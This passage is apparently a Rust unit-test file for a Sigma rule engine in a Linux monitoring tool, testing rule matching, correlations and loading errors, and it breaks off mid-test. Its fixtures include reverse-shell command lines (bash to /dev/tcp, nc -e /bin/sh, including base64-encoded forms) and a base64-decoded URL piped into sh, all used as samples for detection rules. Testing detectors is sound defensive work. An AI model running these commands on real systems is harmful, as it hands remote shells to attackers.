//! Unit tests of the Sigma stage: every modifier, wildcards and their
//! escapes, conditions, keywords, each correlation type on a fake clock,
//! skipped logsources and errors with their lines, the alert's shape, and
//! recorded events read back.

use std::{collections::BTreeSet, path::PathBuf, sync::atomic::AtomicUsize};

use base64::Engine as _;
use chrono::{DateTime, TimeZone, Utc};

use super::{SigmaEngine, compile, load::Report, record};
use crate::{
    detect::{Alert, Detector, Severity},
    events::{Body, Event, Exec, Exit, Fork, Sock},
};

// ---------------------------------------------------------------------------
// Builders

/// The fake clock: `t(s)` is `s` seconds after a fixed instant.
fn t(secs: i64) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 12, 6, 4, 0, 0).unwrap() + chrono::TimeDelta::seconds(secs)
}

fn header(at: i64, pid: u32, exe: &str, body: Body) -> Event {
    Event {
        time: t(at),
        ktime_ns: at as u64 * 1_000_000_000,
        pid,
        tid: pid,
        ppid: Some(pid - 1),
        uid: 1000,
        gid: 1000,
        user: Some("alice".into()),
        comm: exe.rsplit('/').next().unwrap_or_default().chars().take(15).collect(),
        exe: Some(exe.into()),
        body,
    }
}

/// A successful exec, the way enrichment hands it over.
fn exec_at(at: i64, pid: u32, image: &str, argv: &[&str], parent: &str) -> Event {
    header(
        at,
        pid,
        image,
        Body::Exec(Exec {
            filename: image.into(),
            argv: argv.iter().map(|a| a.to_string()).collect(),
            args_truncated: false,
            filename_truncated: false,
            result: 0,
            success: true,
            error: None,
            parent_exe: Some(parent.into()),
            execveat: false,
            entry_missing: false,
            args_unreadable: false,
            path_misses: 0,
            sha256: None,
            sha256_skipped: None,
        }),
    )
}

fn exec(image: &str, argv: &[&str]) -> Event {
    exec_at(0, 100, image, argv, "/usr/bin/bash")
}

fn connect_at(at: i64, pid: u32, exe: &str, remote: &str, port: u16) -> Event {
    header(
        at,
        pid,
        exe,
        Body::Connect(Sock {
            protocol: "tcp",
            family: if remote.contains(':') { "ipv6" } else { "ipv4" },
            local_addr: "10.0.0.17".parse().ok(),
            local_port: Some(40000),
            remote_addr: remote.parse().ok(),
            remote_port: Some(port),
            fd: 3,
            result: 0,
            status: "success",
            error: None,
            async_outcome: false,
        }),
    )
}

fn connect(remote: &str, port: u16) -> Event {
    connect_at(0, 200, "/usr/bin/curl", remote, port)
}

fn accept(remote: &str, local_port: u16) -> Event {
    let mut ev = connect(remote, 0);
    ev.body = Body::Accept(Sock {
        protocol: "tcp",
        family: "ipv4",
        local_addr: "10.0.0.17".parse().ok(),
        local_port: Some(local_port),
        remote_addr: remote.parse().ok(),
        remote_port: Some(51000),
        fd: 4,
        result: 4,
        status: "success",
        error: None,
        async_outcome: false,
    });
    ev
}

// ---------------------------------------------------------------------------
// Rule files

static SEQ: AtomicUsize = AtomicUsize::new(0);

/// A fresh folder under the temp dir with `files` written into it.
fn rule_dir(files: &[(&str, &str)]) -> PathBuf {
    let n = SEQ.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let dir = std::env::temp_dir().join(format!("shrike-sigma-{}-{n}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for (name, text) in files {
        let p = dir.join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    dir
}

fn load_dir(files: &[(&str, &str)], disabled: &[&str]) -> (Option<SigmaEngine>, Report, PathBuf) {
    let dir = rule_dir(files);
    let disabled: BTreeSet<String> = disabled.iter().map(|s| s.to_string()).collect();
    let (e, r) = compile(std::slice::from_ref(&dir), &disabled);
    (e, r, dir)
}

fn engine(yaml: &str) -> SigmaEngine {
    let (e, r, _) = load_dir(&[("r.yml", yaml)], &[]);
    assert!(r.errors.is_empty(), "errors: {:?}", r.errors);
    assert!(r.skipped.is_empty(), "skipped: {:?}", r.skipped_rules);
    e.expect("rules loaded")
}

/// A one-rule file: `detection` is the body of the detection section
/// (indented by 4), for `category`.
fn rule(category: &str, detection: &str) -> String {
    format!(
        "title: Test rule\nid: test-rule\nlogsource:\n    product: linux\n    category: {category}\ndetection:\n{detection}\nlevel: high\n"
    )
}

fn fires(e: &mut SigmaEngine, ev: &Event) -> Vec<Alert> {
    let mut out = Vec::new();
    e.observe(ev, &mut out);
    out
}

/// Asserts the process_creation `detection` fires on each of `yes` and on
/// none of `no`.
fn check(category: &str, detection: &str, yes: &[Event], no: &[Event]) {
    let mut e = engine(&rule(category, detection));
    for ev in yes {
        assert_eq!(fires(&mut e, ev).len(), 1, "should fire: {detection}\non {ev:?}");
    }
    for ev in no {
        assert!(fires(&mut e, ev).is_empty(), "should not fire: {detection}\non {ev:?}");
    }
}

const PROC: &str = "process_creation";
const NET: &str = "network_connection";

// ---------------------------------------------------------------------------
// Modifiers

#[test]
fn contains_startswith_endswith_and_case() {
    check(
        PROC,
        "    sel:\n        CommandLine|contains: 'wget '\n    condition: sel",
        &[exec("/usr/bin/wget", &["wget", "http://x"]), exec("/usr/bin/wget", &["WGET", "http://x"])],
        &[exec("/usr/bin/wget", &["wget"]), exec("/usr/bin/wget2", &["wget2", "x"])],
    );
    check(
        PROC,
        "    sel:\n        Image|startswith: '/tmp/'\n    condition: sel",
        &[exec("/tmp/x", &["x"]), exec("/TMP/x", &["x"])],
        &[exec("/var/tmp/x", &["x"])],
    );
    check(
        PROC,
        "    sel:\n        Image|endswith: '/nc'\n    condition: sel",
        &[exec("/usr/bin/nc", &["nc"])],
        &[exec("/usr/bin/ncat", &["ncat"])],
    );
    // Plain equality is whole-value and case-insensitive.
    check(
        PROC,
        "    sel:\n        Image: '/usr/bin/id'\n    condition: sel",
        &[exec("/usr/bin/id", &["id"]), exec("/usr/bin/ID", &["id"])],
        &[exec("/usr/bin/idx", &["idx"])],
    );
}

#[test]
fn cased() {
    check(
        PROC,
        "    sel:\n        CommandLine|cased|contains: 'Secret'\n    condition: sel",
        &[exec("/usr/bin/cat", &["cat", "Secret.txt"])],
        &[exec("/usr/bin/cat", &["cat", "secret.txt"])],
    );
    check(
        PROC,
        "    sel:\n        CommandLine|cased: 'id -U'\n    condition: sel",
        &[exec("/usr/bin/id", &["id", "-U"])],
        &[exec("/usr/bin/id", &["id", "-u"])],
    );
}

#[test]
fn all_joins_values_with_and() {
    check(
        PROC,
        "    sel:\n        CommandLine|contains|all:\n            - ' -e '\n            - '/bin/sh'\n    condition: sel",
        &[exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"])],
        &[
            exec("/usr/bin/nc", &["nc", "-e", "/bin/bash", "1.2.3.4"]),
            exec("/usr/bin/nc", &["nc", "/bin/sh"]),
        ],
    );
    // Without `all`, a list is an OR.
    check(
        PROC,
        "    sel:\n        CommandLine|contains:\n            - 'alpha'\n            - 'beta'\n    condition: sel",
        &[exec("/bin/echo", &["echo", "beta"])],
        &[exec("/bin/echo", &["echo", "gamma"])],
    );
}

#[test]
fn regular_expressions_and_their_flags() {
    check(
        PROC,
        "    sel:\n        CommandLine|re: 'nc\\s+-e\\s'\n    condition: sel",
        &[exec("/usr/bin/nc", &["nc", "-e", "/bin/sh"])],
        // Case-sensitive without `i`.
        &[exec("/usr/bin/nc", &["NC", "-E", "/bin/sh"]), exec("/usr/bin/nc", &["nc", "-z", "x"])],
    );
    check(
        PROC,
        "    sel:\n        CommandLine|re|i: 'nc\\s+-e\\s'\n    condition: sel",
        &[exec("/usr/bin/nc", &["NC", "-E", "/bin/sh"])],
        &[exec("/usr/bin/nc", &["nc", "-z", "x"])],
    );
    // m: ^ and $ at line ends inside a multi-line argument.
    let multi = exec("/bin/bash", &["bash", "-c", "echo x\nsh\necho y"]);
    check(
        PROC,
        "    sel:\n        CommandLine|re|m: '^sh$'\n    condition: sel",
        std::slice::from_ref(&multi),
        &[],
    );
    check(
        PROC,
        "    sel:\n        CommandLine|re: '^sh$'\n    condition: sel",
        &[],
        std::slice::from_ref(&multi),
    );
    // s: `.` matches a newline.
    check(
        PROC,
        "    sel:\n        CommandLine|re|s: 'x.sh'\n    condition: sel",
        std::slice::from_ref(&multi),
        &[],
    );
    check(PROC, "    sel:\n        CommandLine|re: 'x.sh'\n    condition: sel", &[], &[multi]);
}

#[test]
fn cidr_on_both_families() {
    check(
        NET,
        "    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fd00::/8'\n    condition: sel",
        &[connect("10.1.2.3", 80), connect("fd12::1", 80), connect("::ffff:10.9.9.9", 80)],
        &[connect("11.0.0.1", 80), connect("fe80::1", 80)],
    );
}

#[test]
fn windash() {
    // `-` also matches `/` and the dash look-alikes Windows tools accept.
    check(
        PROC,
        "    sel:\n        CommandLine|windash|contains: ' -decode '\n    condition: sel",
        &[
            exec("/usr/bin/certutil", &["certutil", "-decode", "x"]),
            exec("/usr/bin/certutil", &["certutil", "/decode", "x"]),
        ],
        &[exec("/usr/bin/certutil", &["certutil", "decode", "x"])],
    );
}

#[test]
fn base64_and_base64offset() {
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let cmd = format!("echo {} | base64 -d | sh", b64("http://evil.example"));
    check(
        PROC,
        "    sel:\n        CommandLine|base64|contains: 'http://evil.example'\n    condition: sel",
        &[exec("/bin/bash", &["bash", "-c", &cmd])],
        &[exec("/bin/bash", &["bash", "-c", "echo http://evil.example"])],
    );
    // The needle anywhere in an encoded text: each of the three offsets.
    let yes: Vec<Event> = ["", "a", "ab"]
        .iter()
        .map(|pre| {
            let enc = b64(&format!("{pre}bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"));
            exec("/bin/bash", &["bash", "-c", &format!("echo {enc} | base64 -d | bash")])
        })
        .collect();
    assert_eq!(
        super::load::base64_offsets(b"/dev/tcp/"),
        ["L2Rldi90Y3Av", "9kZXYvdGNwL", "vZGV2L3RjcC"],
        "pySigma's three variants"
    );
    check(
        PROC,
        "    sel:\n        CommandLine|base64offset|contains: '/dev/tcp/'\n    condition: sel",
        &yes,
        &[exec("/bin/bash", &["bash", "-c", &format!("echo {}", b64("/dev/udp/x"))])],
    );
}

#[test]
fn exists() {
    let mut orphan = exec("/usr/bin/id", &["id"]);
    orphan.ppid = None;
    check(
        PROC,
        "    sel:\n        ParentProcessId|exists: true\n    condition: sel",
        &[exec("/usr/bin/id", &["id"])],
        &[orphan.clone()],
    );
    check(
        PROC,
        "    sel:\n        ParentProcessId|exists: false\n    condition: sel",
        &[orphan],
        &[exec("/usr/bin/id", &["id"])],
    );
    // Shrike has no working directory: CurrentDirectory never exists.
    check(
        PROC,
        "    sel:\n        CurrentDirectory|exists: false\n    condition: sel",
        &[exec("/usr/bin/id", &["id"])],
        &[],
    );
}

#[test]
fn numeric_comparisons() {
    check(
        NET,
        "    sel:\n        DestinationPort|gte: 4444\n        DestinationPort|lt: 4450\n    condition: sel",
        &[connect("1.2.3.4", 4444), connect("1.2.3.4", 4449)],
        &[connect("1.2.3.4", 4443), connect("1.2.3.4", 4450)],
    );
    check(
        NET,
        "    sel:\n        DestinationPort|gt: 1024\n        DestinationPort|lte: 1025\n    condition: sel",
        &[connect("1.2.3.4", 1025)],
        &[connect("1.2.3.4", 1024), connect("1.2.3.4", 1026)],
    );
    // Plain numbers compare as numbers.
    check(PROC, "    sel:\n        LogonId: 1000\n    condition: sel", &[exec("/usr/bin/id", &["id"])], &[]);
}

#[test]
fn fieldref() {
    // A shell started by the same shell binary.
    check(
        PROC,
        "    sel:\n        ParentImage|fieldref: Image\n    condition: sel",
        &[exec_at(0, 100, "/usr/bin/bash", &["bash"], "/usr/bin/bash")],
        &[exec_at(0, 100, "/usr/bin/bash", &["bash"], "/usr/sbin/sshd")],
    );
}

#[test]
fn wildcards_and_escapes() {
    check(
        PROC,
        "    sel:\n        Image: '/usr/bin/*sh'\n    condition: sel",
        &[exec("/usr/bin/bash", &["bash"]), exec("/usr/bin/sh", &["sh"])],
        &[exec("/usr/bin/bashx", &["bashx"])],
    );
    check(
        PROC,
        "    sel:\n        CommandLine: 'id ?'\n    condition: sel",
        &[exec("/usr/bin/id", &["id", "u"])],
        &[exec("/usr/bin/id", &["id", "uu"])],
    );
    // \* and \? are the characters themselves.
    check(
        PROC,
        "    sel:\n        CommandLine: 'rm -rf \\*'\n    condition: sel",
        &[exec("/usr/bin/rm", &["rm", "-rf", "*"])],
        &[exec("/usr/bin/rm", &["rm", "-rf", "x"])],
    );
    check(
        PROC,
        "    sel:\n        CommandLine: 'what\\?'\n    condition: sel",
        &[exec("/usr/bin/what", &["what?"])],
        &[exec("/usr/bin/what", &["whatx"])],
    );
    // \\ is one backslash, the * after it a wildcard again.
    check(
        PROC,
        "    sel:\n        CommandLine: 'printf a\\\\*'\n    condition: sel",
        &[exec("/usr/bin/printf", &["printf", "a\\xyz"])],
        &[exec("/usr/bin/printf", &["printf", "axyz"])],
    );
    // Kernel text escapes a backslash (`\\`, events/text.rs): the rule still
    // sees one.
    let from_kernel = crate::events::text::escape(b"a\\xyz");
    assert_eq!(from_kernel, "a\\\\xyz");
    check(
        PROC,
        "    sel:\n        CommandLine: 'printf a\\\\x*'\n    condition: sel",
        &[exec("/usr/bin/printf", &["printf", &from_kernel])],
        &[exec("/usr/bin/printf", &["printf", "axyz"])],
    );
}

#[test]
fn conditions() {
    let det = "    selection_curl:\n        Image|endswith: '/curl'\n    selection_wget:\n        Image|endswith: '/wget'\n    filter_local:\n        CommandLine|contains: 'localhost'\n    filter_lan:\n        CommandLine|contains: '10.0.0.'\n";
    let curl = exec("/usr/bin/curl", &["curl", "http://evil"]);
    let wget = exec("/usr/bin/wget", &["wget", "http://evil"]);
    let local = exec("/usr/bin/curl", &["curl", "http://localhost"]);
    let lan = exec("/usr/bin/wget", &["wget", "http://10.0.0.1"]);
    let other = exec("/usr/bin/id", &["id"]);
    check(
        PROC,
        &format!("{det}    condition: 1 of selection_* and not 1 of filter_*"),
        &[curl.clone(), wget.clone()],
        &[local.clone(), lan.clone(), other.clone()],
    );
    check(
        PROC,
        &format!(
            "{det}    condition: (selection_curl or selection_wget) and not (filter_local or filter_lan)"
        ),
        &[curl.clone(), wget.clone()],
        &[local.clone(), lan.clone(), other.clone()],
    );
    check(PROC, &format!("{det}    condition: all of selection_*"), &[], &[curl.clone(), wget.clone()]);
    check(
        PROC,
        &format!("{det}    condition: 1 of them"),
        &[curl.clone(), lan.clone()],
        std::slice::from_ref(&other),
    );
    check(PROC, &format!("{det}    condition: all of them"), &[], &[curl.clone(), local.clone()]);
    check(
        PROC,
        "    a:\n        Image|endswith: '/curl'\n    b:\n        CommandLine|contains: 'localhost'\n    condition: all of them",
        std::slice::from_ref(&local),
        std::slice::from_ref(&curl),
    );
    check(PROC, "    sel:\n        Image|endswith: '/curl'\n    condition: not sel", &[other], &[curl]);
}

#[test]
fn keywords_look_at_every_field() {
    check(
        PROC,
        "    keywords:\n        - '/dev/tcp/'\n    condition: keywords",
        &[exec("/bin/bash", &["bash", "-c", "exec 3<>/dev/tcp/1.2.3.4/80"])],
        &[exec("/bin/bash", &["bash", "-c", "echo hi"])],
    );
}

#[test]
fn network_fields() {
    // Sysmon's sides: the source initiated the connection.
    check(
        NET,
        "    sel:\n        Initiated: 'true'\n        DestinationIp: '203.0.113.7'\n        DestinationPort: 4444\n        SourceIp: '10.0.0.17'\n        SourcePort: 40000\n        Protocol: tcp\n        Image|endswith: '/curl'\n        User: alice\n    condition: sel",
        &[connect("203.0.113.7", 4444)],
        &[connect("203.0.113.8", 4444), accept("203.0.113.7", 4444)],
    );
    check(
        NET,
        "    sel:\n        Initiated: 'false'\n        SourceIp: '192.168.1.20'\n        DestinationPort: 22\n    condition: sel",
        &[accept("192.168.1.20", 22)],
        &[connect("192.168.1.20", 22)],
    );
    // A YAML boolean compares like the string.
    check(
        NET,
        "    sel:\n        Initiated: true\n    condition: sel",
        &[connect("1.1.1.1", 1)],
        &[accept("1.1.1.1", 1)],
    );
}

#[test]
fn process_fields_and_categories() {
    let ev = exec_at(0, 4242, "/usr/bin/curl", &["curl", "-s", "http://x"], "/usr/bin/bash");
    check(
        PROC,
        "    sel:\n        Image: '/usr/bin/curl'\n        CommandLine: 'curl -s http://x'\n        ParentImage: '/usr/bin/bash'\n        User: alice\n        ProcessId: 4242\n        ParentProcessId: 4241\n    condition: sel",
        std::slice::from_ref(&ev),
        // A network rule never sees an exec, nor a process rule a connection.
        &[connect("1.1.1.1", 80)],
    );
    check(
        NET,
        "    sel:\n        Image|endswith: '/curl'\n    condition: sel",
        &[],
        std::slice::from_ref(&ev),
    );
    // A failed exec created no process.
    let mut failed = ev;
    if let Body::Exec(x) = &mut failed.body {
        x.success = false;
        x.result = -2;
        x.error = Some("ENOENT");
    }
    check(PROC, "    sel:\n        Image|endswith: '/curl'\n    condition: sel", &[], &[failed]);
}

#[test]
fn remembered_command_lines() {
    // Network rules see the command line of the process's exec; a forked
    // child has its parent's; process rules see the parent's.
    let mut e = engine(&format!(
        "{}---\n{}",
        rule(NET, "    sel:\n        CommandLine|contains: 'callback.py'\n    condition: sel"),
        rule(PROC, "    sel:\n        ParentCommandLine|contains: 'callback.py'\n    condition: sel")
            .replace("test-rule", "test-rule-2")
    ));
    let py = exec_at(0, 300, "/usr/bin/python3", &["python3", "/opt/callback.py"], "/usr/bin/bash");
    assert!(
        fires(&mut e, &connect_at(1, 300, "/usr/bin/python3", "1.2.3.4", 443)).is_empty(),
        "not yet seen"
    );
    assert!(fires(&mut e, &py).is_empty());
    assert_eq!(fires(&mut e, &connect_at(1, 300, "/usr/bin/python3", "1.2.3.4", 443)).len(), 1);
    let fork = header(2, 300, "/usr/bin/python3", Body::Fork(Fork { child_pid: 301 }));
    assert!(fires(&mut e, &fork).is_empty());
    assert_eq!(fires(&mut e, &connect_at(3, 301, "/usr/bin/python3", "1.2.3.4", 443)).len(), 1);
    let child = exec_at(4, 302, "/usr/bin/id", &["id"], "/usr/bin/python3");
    let got = fires(&mut e, &child);
    assert_eq!(got.len(), 1);
    assert_eq!(&*got[0].rule, "test-rule-2");
    let exit = header(5, 300, "/usr/bin/python3", Body::Exit(Exit { exit_code: Some(0), signal: None }));
    assert!(fires(&mut e, &exit).is_empty());
    assert!(
        fires(&mut e, &connect_at(6, 300, "/usr/bin/python3", "1.2.3.4", 443)).is_empty(),
        "forgotten at exit"
    );
}

// ---------------------------------------------------------------------------
// The alert

#[test]
fn alert_carries_the_rule_and_the_event() {
    let mut e = engine(
        "title: Reverse shell with nc\nid: 5f0c-nc\nstatus: test\ndescription: nc hands a shell to a remote host.\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        CommandLine|contains: ' -e /bin/sh'\n    condition: sel\nfalsepositives:\n    - Lab exercises\n    - Admins\nlevel: critical\ntags:\n    - attack.execution\n    - attack.t1059.004\n---\ntitle: No id, no level\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        Image|endswith: '/id'\n    condition: sel\n",
    );
    let ev = exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "x"]);
    let a = fires(&mut e, &ev).remove(0);
    assert_eq!(&*a.rule, "5f0c-nc");
    assert_eq!(&*a.title, "Reverse shell with nc");
    assert_eq!(a.severity, Severity::Critical);
    assert_eq!(a.source, "sigma");
    assert_eq!(a.tags.iter().map(|t| &**t).collect::<Vec<_>>(), ["attack.execution", "attack.t1059.004"]);
    assert_eq!(a.description, "nc hands a shell to a remote host. False positives: Lab exercises; Admins");
    assert_eq!(*a.event, ev);
    let json = serde_json::to_value(a.into_event()).unwrap();
    assert_eq!(json["kind"], "alert");
    assert_eq!(json["event"]["kind"], "exec");

    let b = fires(&mut e, &exec("/usr/bin/id", &["id"])).remove(0);
    assert_eq!(&*b.rule, "No id, no level", "the title stands in for a missing id");
    assert_eq!(b.severity, Severity::Medium, "medium by default");
}

// ---------------------------------------------------------------------------
// Correlations, on the events' own time

const BASE_RULES: &str = "title: Download tool\nid: dl-tool\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        Image|endswith:\n            - '/curl'\n            - '/wget'\n    condition: sel\n---\ntitle: Outbound to odd port\nid: odd-port\nlogsource:\n    product: linux\n    category: network_connection\ndetection:\n    sel:\n        Initiated: 'true'\n        DestinationPort|gte: 4000\n    condition: sel\n";

fn corr_engine(corr: &str) -> SigmaEngine {
    engine(&format!("{BASE_RULES}---\n{corr}"))
}

fn count(e: &mut SigmaEngine, ev: &Event, rule: &str) -> usize {
    fires(e, ev).iter().filter(|a| &*a.rule == rule).count()
}

#[test]
fn event_count() {
    let mut e = corr_engine(
        "title: Many downloads\nid: many-dl\ncorrelation:\n    type: event_count\n    rules:\n        - dl-tool\n    group-by:\n        - User\n    timespan: 10s\n    condition:\n        gte: 3\nlevel: high\n",
    );
    let dl = |at| exec_at(at, 100 + at as u32, "/usr/bin/curl", &["curl", "x"], "/bin/sh");
    // Spread over 30 s: never 3 within 10 s. The rule itself is
    // correlation-only (no alert of its own).
    for at in [0, 11, 22] {
        assert_eq!(fires(&mut e, &dl(at)).len(), 0);
    }
    assert_eq!(count(&mut e, &dl(100), "many-dl"), 0);
    assert_eq!(count(&mut e, &dl(101), "many-dl"), 0);
    let third = dl(102);
    let a = fires(&mut e, &third);
    assert_eq!(a.len(), 1);
    assert_eq!(&*a[0].rule, "many-dl");
    assert_eq!(*a[0].event, third, "the last matching event");
    assert_eq!(a[0].details.get("group").map(String::as_str), Some("User=alice"));
    assert_eq!(a[0].details.get("count").map(String::as_str), Some("3"));
}

#[test]
fn value_count() {
    let mut e = corr_engine(
        "title: Port scan\nid: scan\ncorrelation:\n    type: value_count\n    rules:\n        - odd-port\n    group-by:\n        - Image\n    timespan: 1m\n    condition:\n        field: DestinationPort\n        gte: 3\n",
    );
    let c = |at, port| connect_at(at, 200, "/usr/bin/nc", "1.2.3.4", port);
    assert_eq!(count(&mut e, &c(0, 4000), "scan"), 0);
    assert_eq!(count(&mut e, &c(1, 4000), "scan"), 0, "the same port again");
    assert_eq!(count(&mut e, &c(2, 4001), "scan"), 0);
    assert_eq!(count(&mut e, &c(3, 4002), "scan"), 1);
}

#[test]
fn temporal_and_temporal_ordered() {
    let dl = |at| exec_at(at, 300, "/usr/bin/curl", &["curl", "x"], "/bin/sh");
    let odd = |at| connect_at(at, 300, "/usr/bin/curl", "1.2.3.4", 4444);
    let temporal = "title: Download then callback\nid: dl-cb\ncorrelation:\n    type: temporal\n    rules:\n        - dl-tool\n        - odd-port\n    group-by:\n        - User\n    timespan: 30s\n";
    let mut e = corr_engine(temporal);
    assert_eq!(count(&mut e, &odd(0), "dl-cb"), 0);
    assert_eq!(count(&mut e, &dl(5), "dl-cb"), 1, "both within 30 s, either order");
    let mut e = corr_engine(temporal);
    assert_eq!(count(&mut e, &odd(0), "dl-cb"), 0);
    assert_eq!(count(&mut e, &dl(40), "dl-cb"), 0, "too far apart");

    let ordered = temporal.replace("type: temporal", "type: temporal_ordered");
    let mut e = corr_engine(&ordered);
    assert_eq!(count(&mut e, &odd(0), "dl-cb"), 0);
    assert_eq!(count(&mut e, &dl(5), "dl-cb"), 0, "wrong order");
    let mut e = corr_engine(&ordered);
    assert_eq!(count(&mut e, &dl(0), "dl-cb"), 0);
    assert_eq!(count(&mut e, &odd(5), "dl-cb"), 1);
}

#[test]
fn generate_keeps_the_rules_own_alerts() {
    let mut e = corr_engine(
        "title: Many downloads\nid: many-dl\ncorrelation:\n    type: event_count\n    rules:\n        - dl-tool\n    timespan: 10s\n    generate: true\n    condition:\n        gte: 2\n",
    );
    assert_eq!(count(&mut e, &exec_at(0, 1, "/usr/bin/wget", &["wget"], "/bin/sh"), "dl-tool"), 1);
}

// ---------------------------------------------------------------------------
// Loading: skips and errors

#[test]
fn logsources_shrike_cannot_feed_are_skipped_with_the_reason() {
    let other = |ls: &str, id: &str| {
        format!(
            "title: {id}\nid: {id}\nlogsource:\n{ls}\ndetection:\n    sel:\n        Image|endswith: '/x'\n    condition: sel\n"
        )
    };
    let (e, r, _) = load_dir(
        &[
            ("a/win.yml", &other("    product: windows\n    category: process_creation", "win")),
            ("a/b/auditd.yaml", &other("    product: linux\n    service: auditd", "auditd")),
            ("file.yml", &other("    product: linux\n    category: file_change", "file")),
            (
                "fields.yml",
                &rule(PROC, "    sel:\n        OriginalFileName: x\n    condition: sel")
                    .replace("test-rule", "f"),
            ),
            ("ok.yml", &rule(PROC, "    sel:\n        Image: x\n    condition: sel")),
            (
                "off.yml",
                &rule(PROC, "    sel:\n        Image: y\n    condition: sel").replace("test-rule", "off"),
            ),
            ("not-a-rule.txt", "ignored: true"),
        ],
        &["off"],
    );
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert_eq!(r.files, 6, "only .yml/.yaml, recursively");
    assert_eq!(r.detections, 1);
    assert_eq!(e.unwrap().rule_count(), 1);
    let skipped: Vec<(&str, u64)> = r.skipped.iter().map(|(k, v)| (k.as_str(), *v)).collect();
    assert_eq!(
        skipped,
        [
            ("disabled", 1),
            ("field 'OriginalFileName' is not provided for process_creation", 1),
            ("logsource not fed by Shrike (product: linux, category: file_change)", 1),
            ("logsource not fed by Shrike (product: linux, service: auditd)", 1),
            ("logsource not fed by Shrike (product: windows, category: process_creation)", 1),
        ]
    );
}

#[test]
fn a_correlation_over_a_skipped_rule_is_skipped() {
    let (e, r, _) = load_dir(
        &[(
            "c.yml",
            "title: Win\nid: win\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n---\ntitle: Many\nid: many\ncorrelation:\n    type: event_count\n    rules:\n        - win\n    timespan: 10s\n    condition:\n        gte: 2\n",
        )],
        &[],
    );
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert!(e.is_none());
    assert_eq!(r.skipped.get("refers to rule 'win', which is not loaded"), Some(&1));
}

/// Loads one file and returns its errors with the folder replaced by `D`.
fn errors_of(text: &str) -> Vec<String> {
    let (e, r, dir) = load_dir(&[("bad.yml", text)], &[]);
    assert!(e.is_none(), "an engine despite errors");
    let d = dir.display().to_string();
    r.errors.iter().map(|e| e.replace(&d, "D")).collect()
}

#[test]
fn errors_name_the_file_and_line() {
    let good = rule(PROC, "    sel:\n        Image: x\n    condition: sel");
    // Line 9: the unknown modifier, in the second document.
    let e = errors_of(&format!(
        "{good}---\ntitle: Bad modifier\nid: bad\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        Image|startwith: x\n    condition: sel\n"
    ));
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(e[0].starts_with("D/bad.yml:19: "), "{e:?}");
    assert!(e[0].contains("startwith"), "{e:?}");

    let e = errors_of(&rule(PROC, "    sel:\n        Image: x\n    condition: sel and"));
    assert!(!e[0].contains('\n'), "one line: {e:?}");
    assert!(e[0].starts_with("D/bad.yml:9: "), "the condition's line: {e:?}");

    let e = errors_of(&rule(PROC, "    sel:\n        Image: x\n    condition: sel and not filter"));
    assert!(e[0].starts_with("D/bad.yml:9: ") && e[0].contains("filter"), "unknown identifier: {e:?}");

    let e = errors_of(&rule(PROC, "    sel:\n        CommandLine|re: 'a(b'\n    condition: sel"));
    assert!(e[0].starts_with("D/bad.yml:8: ") && e[0].contains("regex"), "bad regex: {e:?}");

    let e = errors_of(
        &rule(PROC, "    sel:\n        DestinationIp|cidr: '10.0.0.0/33'\n    condition: sel")
            .replace(PROC, NET),
    );
    assert!(e[0].starts_with("D/bad.yml:8: ") && e[0].contains("CIDR"), "bad CIDR: {e:?}");

    let e = errors_of("title: x\nlogsource:\n  product: linux\n detection: [\n");
    assert!(e[0].starts_with("D/bad.yml:4: ") || e[0].starts_with("D/bad.yml:5: "), "YAML error: {e:?}");

    let e = errors_of(&rule(PROC, "    sel:\n        Image|expand: '%dir%'\n    condition: sel"));
    assert!(e[0].starts_with("D/bad.yml:8: ") && e[0].contains("expand"), "placeholders: {e:?}");

    let e = errors_of(
        &rule(PROC, "    sel:\n        Image: x\n    condition: sel").replace("level: high", "level: severe"),
    );
    assert!(e[0].starts_with("D/bad.yml:10: ") && e[0].contains("level"), "bad level: {e:?}");

    let e = errors_of(&format!(
        "{good}---\ntitle: Many\ncorrelation:\n    type: event_count\n    rules:\n        - nonexistent\n    timespan: 10s\n    condition:\n        gte: 2\n"
    ));
    assert!(e[0].starts_with("D/bad.yml:16: ") && e[0].contains("nonexistent"), "unknown reference: {e:?}");

    let e = errors_of(&format!("{good}---\n{good}"));
    assert!(e[0].starts_with("D/bad.yml:12: ") && e[0].contains("duplicate"), "duplicate id: {e:?}");
}

#[test]
fn the_repository_rules_load_and_the_broken_one_does_not() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/rules");
    let (e, r) = compile(&[root.join("shrike-test.yml")], &BTreeSet::new());
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert!(e.is_some() && r.correlations >= 1 && r.detections >= 3, "{r:?}");
    let (e, r) = compile(&[root.join("broken")], &BTreeSet::new());
    assert!(e.is_none());
    assert_eq!(r.errors.len(), 1, "{:?}", r.errors);
    assert!(r.errors[0].contains("broken/bad-modifier.yml:"), "{:?}", r.errors);
}

// ---------------------------------------------------------------------------
// Recorded events

#[test]
fn recorded_events_read_back_the_same() {
    let mut failed = exec("/usr/bin/nope", &["nope"]);
    if let Body::Exec(x) = &mut failed.body {
        x.success = false;
        x.result = -2;
        x.error = Some("ENOENT");
    }
    let mut odd = connect("::ffff:1.2.3.4", 443);
    if let Body::Connect(s) = &mut odd.body {
        s.status = "refused";
        s.result = -111;
        s.error = Some("ECONNREFUSED");
    }
    for ev in [
        exec("/usr/bin/id", &["id", "-u"]),
        failed,
        odd,
        accept("10.0.0.1", 22),
        header(3, 9, "/bin/sh", Body::Fork(Fork { child_pid: 10 })),
